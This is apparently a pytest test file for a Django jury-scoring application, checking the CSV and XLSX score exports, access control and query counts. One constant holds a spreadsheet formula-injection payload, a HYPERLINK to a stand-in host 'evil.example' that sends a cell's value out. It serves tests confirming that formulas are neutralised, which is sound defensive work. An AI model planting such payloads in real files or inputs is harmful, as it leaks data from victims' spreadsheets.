"""The organisers' export of scores per juror and criterion: CSV and XLSX in the exports' conventions."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from jury import services
from jury.models import Assignment, ConflictOfInterest
from tests import factories as f

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("staff_without_mfa")]

HEADERS = [
    "Edition",
    "Code",
    "Category",
    "Juror number",
    "Criterion",
    "Points",
    "Maximum points",
    "Weight",
    "Submitted at",
]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'



@pytest.fixture
def edition():
    return f.EditionFactory(phase="scoring", min_justification_length=0)


@pytest.fixture
def criteria(edition):
    return [
        f.CriterionFactory(edition=edition, name="Trwałość", max_points=10, weight="2.00", order=1),
        f.CriterionFactory(edition=edition, name="Innowacyjność", max_points=5, weight="1.50", order=2),
    ]


def _juror(edition):
    return f.declared_juror(edition)


def _submit(member, entry, criteria, points):
    Assignment.objects.get_or_create(member=member, application=entry)
    values = {c.pk: (p, "Uzasadnienie " + HOSTILE) for c, p in zip(criteria, points, strict=True)}
    services.submit_scorecard(member, entry, values, by=member.user)


def _url(edition, fmt):
    return reverse("jury:scores_export", args=[edition.year, fmt])


def _csv(client, edition):
    response = client.get(_url(edition, "csv"))
    assert response.status_code == 200
    content = response.content.decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:]), delimiter=";"))


def _xlsx(client, edition):
    response = client.get(_url(edition, "xlsx"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_csv_has_one_row_per_juror_entry_and_criterion(client, organiser, edition, criteria):
    entry = f.jury_entry(edition, 1)
    first, second = _juror(edition), _juror(edition)
    _submit(first, entry, criteria, (7, 4))
    _submit(second, entry, criteria, (3, 2))
    client.force_login(organiser)
    rows = _csv(client, edition)
    assert rows[0] == HEADERS
    assert [row[:8] for row in rows[1:]] == [
        [str(edition.year), entry.code, entry.category.name, "1", "Trwałość", "7", "10", "2.00"],
        [str(edition.year), entry.code, entry.category.name, "1", "Innowacyjność", "4", "5", "1.50"],
        [str(edition.year), entry.code, entry.category.name, "2", "Trwałość", "3", "10", "2.00"],
        [str(edition.year), entry.code, entry.category.name, "2", "Innowacyjność", "2", "5", "1.50"],
    ]
    assert all(len(row[8]) == len("2026-01-01 12:00:00") for row in rows[1:])


def test_csv_leaves_out_justifications_and_jurors_names(client, organiser, edition, criteria):
    member = _juror(edition)
    _submit(member, f.jury_entry(edition, 1), criteria, (7, 4))
    client.force_login(organiser)
    content = client.get(_url(edition, "csv")).content.decode("utf-8")
    assert "Uzasadnienie" not in content
    assert member.user.email not in content
    assert member.user.full_name not in content


def test_csv_leaves_out_drafts_and_conflicted_cards(client, organiser, edition, criteria):
    entry, other = f.jury_entry(edition, 1), f.jury_entry(edition, 2)
    member = _juror(edition)
    _submit(member, entry, criteria, (7, 4))
    _submit(member, other, criteria, (1, 1))
    ConflictOfInterest.objects.create(member=member, application=other, source="organiser")
    drafter = _juror(edition)
    Assignment.objects.create(member=drafter, application=entry)
    services.save_scorecard_draft(drafter, entry, {criteria[0].pk: (9, "")}, by=drafter.user)
    client.force_login(organiser)
    rows = _csv(client, edition)[1:]
    assert {(row[1], row[3]) for row in rows} == {(entry.code, "1")}


def test_csv_keeps_formulas_in_codes_and_criteria_as_text(client, organiser, edition):
    hostile_criterion = f.CriterionFactory(edition=edition, name=HOSTILE, max_points=10)
    entry = f.jury_entry(edition, 1, code="=1+1")
    _submit(_juror(edition), entry, [hostile_criterion], (5,))
    client.force_login(organiser)
    [row] = _csv(client, edition)[1:]
    assert row[1] == "'=1+1"
    assert row[4] == "'" + HOSTILE


def test_xlsx_has_the_same_columns_and_formula_safe_text(client, organiser, edition):
    hostile_criterion = f.CriterionFactory(edition=edition, name=HOSTILE, max_points=10, weight="2.00")
    entry = f.jury_entry(edition, 1, code="@SUM(A1)")
    _submit(_juror(edition), entry, [hostile_criterion], (5,))
    client.force_login(organiser)
    header, row = _xlsx(client, edition)
    assert header == HEADERS
    assert row[:8] == [edition.year, "'@SUM(A1)", entry.category.name, 1, "'" + HOSTILE, 5, 10, 2]


def test_export_refuses_an_unknown_format(client, organiser, edition):
    client.force_login(organiser)
    assert client.get(_url(edition, "ods")).status_code == 404


def test_export_refused_to_a_juror(client, edition, criteria):
    member = _juror(edition)
    _submit(member, f.jury_entry(edition, 1), criteria, (7, 4))
    client.force_login(member.user)
    response = client.get(_url(edition, "csv"))
    assert response.status_code == 403
    assert "Trwałość" not in response.content.decode("utf-8")


def _queries(client, url):
    with CaptureQueriesContext(connection) as context:
        assert client.get(url).status_code == 200
    return len(context.captured_queries)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_query_count_does_not_grow_with_scores(client, organiser, edition, criteria, fmt):
    client.force_login(organiser)
    _submit(_juror(edition), f.jury_entry(edition, 1), criteria, (7, 4))
    small = _queries(client, _url(edition, fmt))
    for number in range(2, 6):
        entry = f.jury_entry(edition, number)
        for _ in range(3):
            _submit(_juror(edition), entry, criteria, (number, 1))
    assert _queries(client, _url(edition, fmt)) == small


@pytest.mark.parametrize("name", ["jury:score_sheets", "jury:juror_score_sheets"])
def test_score_sheets_query_count_does_not_grow_with_scorecards(client, organiser, edition, criteria, name):
    member = _juror(edition)
    client.force_login(organiser if name == "jury:score_sheets" else member.user)
    url = reverse(name, args=[edition.year])
    _submit(member, f.jury_entry(edition, 1), criteria, (7, 4))
    small = _queries(client, url)
    for number in range(2, 6):
        entry = f.jury_entry(edition, number)
        _submit(member, entry, criteria, (number, 1))
        _submit(_juror(edition), entry, criteria, (1, 1))
    assert _queries(client, url) == small
